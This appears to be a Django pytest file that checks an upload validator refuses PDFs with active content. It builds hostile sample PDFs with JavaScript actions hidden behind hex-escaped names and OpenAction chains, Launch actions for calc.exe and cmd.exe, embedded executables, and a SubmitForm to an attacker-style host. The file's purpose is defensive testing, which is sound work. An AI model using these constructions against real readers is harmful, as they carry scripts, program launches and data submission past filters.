"""PDFs that can run scripts, launch programs or carry other files are refused (SECURITY.md UP-01),
wherever the action hides: annotations, /OpenAction → /Next chains, hex-escaped names, name trees.

Each file is written byte by byte here (a minimal PDF with a correct cross-reference table), so
the test sees exactly what an attacker would upload; the same check serves tool attachments,
emblem samples and concern files (all call `catalogue.uploads.clean_pdf`)."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from catalogue import uploads
from concerns.forms import ReportForm
from emblem.samples import clean_sample

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s>>"


def pdf(*, catalog_extra=b"", page_extra=b"", objects=()) -> bytes:
    """A one-page PDF; `objects` are extra bodies numbered from 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE % page_extra,
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def upload(data: bytes, name="file.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


HOSTILE = {
    # The probe's three, then the rest of the list.
    "annotation AA with a hex-escaped JavaScript name": pdf(
        page_extra=b"/Annots [4 0 R] ",
        objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /AA << /E 5 0 R >> >>",
            b"<< /S /Java#53cript /JS 6 0 R >>",
            b"(app.alert(1))",
        ],
    ),
    "OpenAction, Next, JavaScript": pdf(
        catalog_extra=b"/OpenAction 4 0 R ",
        objects=[b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"],
    ),
    "OpenAction Launch": pdf(catalog_extra=b"/OpenAction << /S /Launch /F (calc.exe) >> "),
    "link annotation launching a program": pdf(
        page_extra=b"/Annots [4 0 R] ",
        objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>"],
    ),
    "page additional actions": pdf(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> "),
    "document-level script in the name tree": pdf(
        catalog_extra=b"/Names << /Java#53cript 4 0 R >> ", objects=[b"<< /Names [(x) 5 0 R] >>", b"<< /S /GoTo >>"]
    ),
    "embedded file": pdf(
        catalog_extra=b"/Names << /EmbeddedFiles 4 0 R >> ",
        objects=[b"<< /Names [(a.exe) 5 0 R] >>", b"<< /Type /Filespec /F (a.exe) >>"],
    ),
    "file attachment annotation": pdf(
        page_extra=b"/Annots [4 0 R] ",
        objects=[b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] >>"],
    ),
    "rich media annotation": pdf(
        page_extra=b"/Annots [4 0 R] ", objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"]
    ),
    "XFA form": pdf(catalog_extra=b"/AcroForm << /Fields [] /XFA 4 0 R >> ", objects=[b"(<xdp/>)"]),
    "submit form action": pdf(catalog_extra=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >> "),
}


def test_a_plain_pdf_with_a_link_and_a_goto_open_action_is_accepted():
    benign = pdf(
        catalog_extra=b"/OpenAction [3 0 R /Fit] ",
        page_extra=b"/Annots [4 0 R] ",
        objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.org/) >> >>"],
    )
    assert uploads.clean_pdf(upload(benign)) == benign


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_is_refused_for_tool_attachments(data):
    with pytest.raises(ValidationError) as refused:
        uploads.clean_pdf(upload(data))
    assert refused.value.code == "pdf_javascript"


def test_the_raw_bytes_never_spell_the_names_the_check_finds():
    """Control: without the graph walk, the byte search alone lets these through."""
    for name in ("annotation AA with a hex-escaped JavaScript name", "OpenAction, Next, JavaScript"):
        assert b"/JavaScript" not in HOSTILE[name]


def test_without_the_walk_the_hostile_files_pass(monkeypatch):
    """Control: with the object-graph walk switched off, the check accepts every hostile file."""
    monkeypatch.setattr(uploads, "active_content", lambda reader: None)
    for data in HOSTILE.values():
        assert uploads.clean_pdf(upload(data)) == data


@pytest.mark.parametrize(
    "name", ["OpenAction Launch", "annotation AA with a hex-escaped JavaScript name", "embedded file"]
)
def test_emblem_samples_and_concern_files_refuse_them_too(name):
    with pytest.raises(ValidationError):
        clean_sample(upload(HOSTILE[name]))
    form = ReportForm(
        data={"category": "other", "description": "Something is wrong.", "sources": ""},
        files={"file": upload(HOSTILE[name])},
    )
    assert not form.is_valid()
    assert "scripts are not accepted" in str(form.errors["file"])


def test_a_hostile_graph_too_big_to_walk_is_refused(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_NODES", 5)
    with pytest.raises(ValidationError) as refused:
        uploads.clean_pdf(upload(HOSTILE["file attachment annotation"]))
    assert refused.value.code == "invalid_pdf"
